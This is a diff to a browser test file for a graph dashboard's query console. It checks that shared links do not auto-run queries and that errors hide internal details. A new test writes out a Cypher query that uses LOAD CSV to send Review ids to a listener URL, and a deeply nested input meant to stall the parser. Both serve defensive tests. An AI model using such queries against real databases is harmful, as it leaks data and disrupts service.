@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import time
 from pathlib import Path
+from urllib.parse import urlencode
 
 import pytest
 from selenium.webdriver.common.keys import Keys
@@ -12,6 +14,7 @@ from dashboard.data import ExplorerData
 from dashboard.pages.console import run_saved
 from graph.stores.falkor_store import FalkorStore
 from tests.browser import cy_count, shot, start, wait_for
+from tests.listener import listening
 
 pytestmark = pytest.mark.browser
 
@@ -87,8 +90,8 @@ def test_a_write_query_is_refused_and_the_graph_is_unchanged(dash_duo, app, reco
 
     replace_text(dash_duo, "#console-editor", "MATCH (n RETURN n")
     dash_duo.find_element("#console-run").click()
-    dash_duo.wait_for_contains_text("#console-error", "The database could not read the query.")
-    assert "Invalid input" in alert.text
+    dash_duo.wait_for_contains_text("#console-error", "The database could not read the query at line 1")
+    assert "near 'RETURN'" in alert.text and "errMsg" not in alert.text and "errCtx" not in alert.text
     assert dash_duo.get_logs() == []
 
 
@@ -96,7 +99,16 @@ def test_a_url_restores_the_query_and_paths_are_drawn(dash_duo, app) -> None:
     start(dash_duo, app, "/console?q=find_causal_chains&params=%7B%22from%22%3A%20%22leadership%22%2C%20"
                          "%22to%22%3A%20%22engagement%22%2C%20%22polarities%22%3A%20%5B%22positive%22%5D%7D"
                          "&run=1")
+    editor = dash_duo.find_element("#console-editor")
+    wait_for(dash_duo, lambda: "LEADS_TO*1..4" in editor.get_attribute("value"))
+    note = dash_duo.find_element("#console-linked")
+    assert note.is_displayed() and "has not run" in note.text
+    time.sleep(2)  # a link used to run its query on opening: give it every chance to
+    assert dash_duo.find_element("#console-status").text == ""
+    assert dash_duo.find_elements("#console-table td") == []
+    dash_duo.find_element("#console-run").click()
     dash_duo.wait_for_contains_text("#console-status", "rows in", timeout=20)
+    assert not dash_duo.find_element("#console-linked").is_displayed()
     assert status_starts(dash_duo, "25 rows in ")  # the query's own LIMIT
     assert "LEADS_TO*1..4" in dash_duo.find_element("#console-editor").get_attribute("value")
     wait_for(dash_duo, lambda: cy_count(dash_duo, "node") > 2)
@@ -120,4 +132,30 @@ def test_a_url_restores_the_query_and_paths_are_drawn(dash_duo, app) -> None:
     image = downloads / "ptgraph-console.png"
     wait_for(dash_duo, lambda: image.is_file() and image.stat().st_size > 1000)
     assert image.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
+    assert dash_duo.get_logs() == []
+
+
+def test_a_shared_link_fills_the_editor_and_runs_only_on_a_click(dash_duo, app, reco_store) -> None:
+    """A link crafted to send the review out (LOAD CSV to a host) or to stall the parser does nothing on
+    opening, even with run=1; pressing Run gets a plain refusal; nothing ever reaches the host."""
+    with listening() as listener:
+        leak = f"MATCH (r:Review) LOAD CSV FROM '{listener.url}/' + r.id AS row RETURN row"
+        start(dash_duo, app, "/console?" + urlencode({"cypher": leak, "run": "1"}))
+        editor = dash_duo.find_element("#console-editor")
+        wait_for(dash_duo, lambda: "LOAD CSV" in editor.get_attribute("value"))
+        assert dash_duo.find_element("#console-linked").is_displayed()
+        assert dash_duo.find_element("#console-run").is_displayed()
+        time.sleep(2)
+        assert listener.hits == [] and dash_duo.find_element("#console-status").text == ""
+        assert not dash_duo.find_element("#console-error").is_displayed()
+        dash_duo.find_element("#console-run").click()
+        dash_duo.wait_for_contains_text("#console-error", "LOAD CSV is refused in read-only queries")
+        assert listener.hits == []
+
+        deep = "RETURN " + "(" * 22 + "1" + ")" * 22
+        dash_duo.driver.get(dash_duo.server_url + "/console?" + urlencode({"cypher": deep, "run": "1"}))
+        wait_for(dash_duo, lambda: "((((" in dash_duo.find_element("#console-editor").get_attribute("value"))
+        dash_duo.find_element("#console-run").click()
+        dash_duo.wait_for_contains_text("#console-error", "22 levels deep", timeout=5)
+        assert reco_store.query("RETURN 1 AS one").rows == [{"one": 1}]  # the server answers at once
     assert dash_duo.get_logs() == []
